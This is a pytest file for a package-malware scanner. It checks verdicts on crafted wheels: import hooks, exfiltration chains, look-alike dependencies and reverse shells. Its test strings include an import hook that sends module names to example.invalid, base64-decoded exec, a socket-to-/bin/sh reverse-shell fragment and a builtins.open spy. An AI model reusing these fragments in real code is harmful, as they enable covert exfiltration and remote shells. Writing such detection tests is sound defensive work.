"""Known blind spots closed (issue 16, ADR 0034): import hooks, chains through helper
modules, look-alike and known-bad dependencies, and GuardDog classes the flow pass missed.
Each fixture (scripts/make_test_packages.py) reaches its verdict; the same calls where
nothing runs them on their own, and real projects' names, stay below a hold."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.depends import declared_names, lookalike_of
from airlock.imports.packages.feed import KnownBad
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.verdicts import vet_many
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import BENIGN, MALICIOUS, wheel


def _worst(findings: list[PackageFinding] | tuple[PackageFinding, ...], rule: str) -> Severity:
    return max((f.severity for f in findings if f.rule == rule), default=Severity.LOW)


@pytest.mark.parametrize(
    ("key", "verdict"),
    [
        ("import-hook:meta-path-finder", Outcome.HOLD),
        ("import-hook:builtins-import", Outcome.HOLD),
        ("exfiltration:helpers-called-from-a-module", Outcome.DENY),
        ("exfiltration:two-hops", Outcome.DENY),
        ("lookalike-dependency", Outcome.HOLD),
        ("lookalike-dependency:setup-cfg", Outcome.HOLD),
        ("reverse-shell", Outcome.DENY),
        ("keylogger", Outcome.HOLD),
        ("registry-autostart", Outcome.HOLD),
        ("packed-code", Outcome.HOLD),
        ("credential-read:shadow", Outcome.HOLD),
        ("exfiltration:class-made-on-import", Outcome.DENY),
        ("file-exec:importlib-loader", Outcome.DENY),
        ("dropper:written-in-one-call", Outcome.DENY),
    ],
)
def test_each_closed_gap_reaches_its_verdict(key: str, verdict: Outcome) -> None:
    filename, data = MALICIOUS[key]
    report = vet(filename, data)
    assert report.verdict is verdict, report.to_json()
    assert _worst(report.findings, key.split(":", maxsplit=1)[0]) >= Severity.HIGH


def test_what_the_new_rules_leave_alone() -> None:
    """A six-like finder, a wrapper of ``open``, helpers with nothing to send, a hotkey and
    real projects a letter from popular ones (cchardet, authlib, fastai, pymssql...)."""
    name = "quiet-1.0-py3-none-any.whl"
    report = vet(name, BENIGN[name])
    assert report.verdict is Outcome.ALLOW, report.to_json()
    assert "typing-extensions" in report.requires and "python-dateutil" in report.requires


FINDER = (
    "import sys, base64, subprocess, urllib.request\n\n\nclass Base:\n"
    "    def find_spec(self, name, path, target=None):\n        {body}\n\n\n"
    "class Finder(Base):\n    pass\n\n\n"
)


@pytest.mark.parametrize(
    ("body", "rule", "before", "severity"),
    [
        (
            "urllib.request.urlopen('http://example.invalid/' + name)",
            "import-hook",
            Severity.LOW,
            Severity.HIGH,
        ),
        ("subprocess.Popen(['true', name])", "import-hook", Severity.LOW, Severity.HIGH),
        # Decoded code run is a chain wherever it sits; registered, it is also eager.
        (
            "exec(base64.b64decode('cHJpbnQoMSk='))",
            "obfuscated-exec",
            Severity.CRITICAL,
            Severity.CRITICAL,
        ),
        ("return None", "import-hook", Severity.LOW, Severity.LOW),
    ],
)
@pytest.mark.parametrize(
    "registration",
    [
        "sys.meta_path.insert(0, Finder())",
        "f = Finder()\nsys.meta_path.append(f)",
        "sys.path_hooks.append(Finder)",
    ],
)
def test_a_finder_is_judged_by_its_body_inherited_methods_included(
    body: str, rule: str, before: Severity, severity: Severity, registration: str
) -> None:
    source = FINDER.format(body=body)
    assert _worst(scan_python("m.py", source), rule) is before  # never registered
    assert _worst(scan_python("m.py", source + registration + "\n"), rule) is severity


@pytest.mark.parametrize(
    "patch",
    [
        "builtins.open = spy",
        "setattr(builtins, 'open', spy)",
        "__builtins__['__import__'] = spy",
    ],
)
def test_a_replaced_builtin_runs_its_replacement_on_every_call(patch: str) -> None:
    source = (
        "import builtins, subprocess\n_open = builtins.open\n\n\n"
        "def spy(*a, **k):\n    subprocess.Popen(['true'])\n    return _open(*a, **k)\n\n\n"
    )
    assert _worst(scan_python("m.py", source), "import-hook") is Severity.LOW
    assert _worst(scan_python("m.py", source + patch + "\n"), "import-hook") is Severity.HIGH
    inside = source + "def later():\n    " + patch + "\n"  # registered when called: later
    assert _worst(scan_python("m.py", inside), "import-hook") is Severity.LOW


def test_a_hook_in_tests_weighs_less() -> None:
    files: dict[str, str | bytes] = {
        "tests/test_hook.py": "import builtins, urllib.request\n\n\ndef _i(n, *a):\n"
        "    urllib.request.urlopen('http://example.invalid/' + n)\n\n\n"
        "builtins.__import__ = _i\n"
    }
    report = vet("t-1.0-py3-none-any.whl", wheel("t", "1.0", files))
    assert report.verdict is Outcome.ALLOW, report.to_json()
    assert _worst(report.findings, "import-hook") is Severity.MEDIUM


def test_helpers_with_nothing_to_send_called_from_a_module_stay_quiet() -> None:
    files: dict[str, str | bytes] = {
        "p/__init__.py": "from . import core\n",
        "p/core.py": "from .config import credentials\nfrom .transport import post\n\n"
        "post('ping')\ncredentials()\n",
        "p/config.py": "import os\n\n\ndef credentials():\n    return os.environ.get('P_HOME')\n",
        "p/transport.py": "import urllib.request\n\n\ndef post(data):\n"
        "    return urllib.request.Request('http://example.invalid/', data=data)\n",
    }
    report = vet("p-1.0-py3-none-any.whl", wheel("p", "1.0", files))
    assert report.verdict is Outcome.ALLOW, report.to_json()


@pytest.mark.parametrize(
    ("name", "imitated"),
    [
        ("reqeusts", "requests"),
        ("requestss", "requests"),
        ("nurnpy", "numpy"),
        ("python-dateutll", "python-dateutil"),
        ("cchardet", None),
        ("authlib", None),
        ("fastai", None),
        ("pymssql", None),
        ("markdown2", None),
        ("typing_extensions", None),
        ("pyaml", None),
    ],
)
def test_lookalike_dependency_shapes(name: str, imitated: str | None) -> None:
    assert lookalike_of(name) == imitated


def test_declared_names_read_every_declaring_file() -> None:
    files = {
        "setup.cfg": "[options]\ninstall_requires =\n    Foo_Bar>=1  # pinned\n    baz\n"
        "python_requires = >=3.8\n",
        "pyproject.toml": '[project]\nname = "x"\ndependencies = ["qux[extra]>=2", "Zed"]\n',
    }
    names = declared_names(["alpha (>=1)", "beta; extra == 'test'"], files)
    assert names == ["alpha", "beta", "foo-bar", "baz", "qux", "zed"]


def test_a_dependency_the_feed_lists_denies() -> None:
    files: dict[str, str | bytes] = {"dep/__init__.py": "def f():\n    return 1\n"}
    data = wheel("dep", "1.0", files, requires="Requires-Dist: Evil_Pkg>=0.1\n")
    known = KnownBad({("evil-pkg", "*"): "MAL-2026-1"})
    (report,) = vet_many([("dep-1.0-py3-none-any.whl", data)], known)
    assert report.verdict is Outcome.DENY
    assert _worst(report.findings, "malicious-dependency") is Severity.CRITICAL
    (clean,) = vet_many([("dep-1.0-py3-none-any.whl", data)], KnownBad({("other", "*"): "X"}))
    assert clean.verdict is Outcome.ALLOW


def test_a_reverse_shell_needs_the_socket_wired_to_a_shell() -> None:
    _, data = MALICIOUS["reverse-shell"]
    source = "import os, socket, subprocess\n\n\ndef main():\n    s = socket.socket()\n"
    assert _worst(scan_python("m.py", source + "    os.dup2(s.fileno(), 0)\n"), "reverse-shell") < (
        Severity.HIGH
    )  # no shell
    shell = source + "    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n"
    assert _worst(scan_python("m.py", shell), "reverse-shell") is Severity.CRITICAL
    assert data
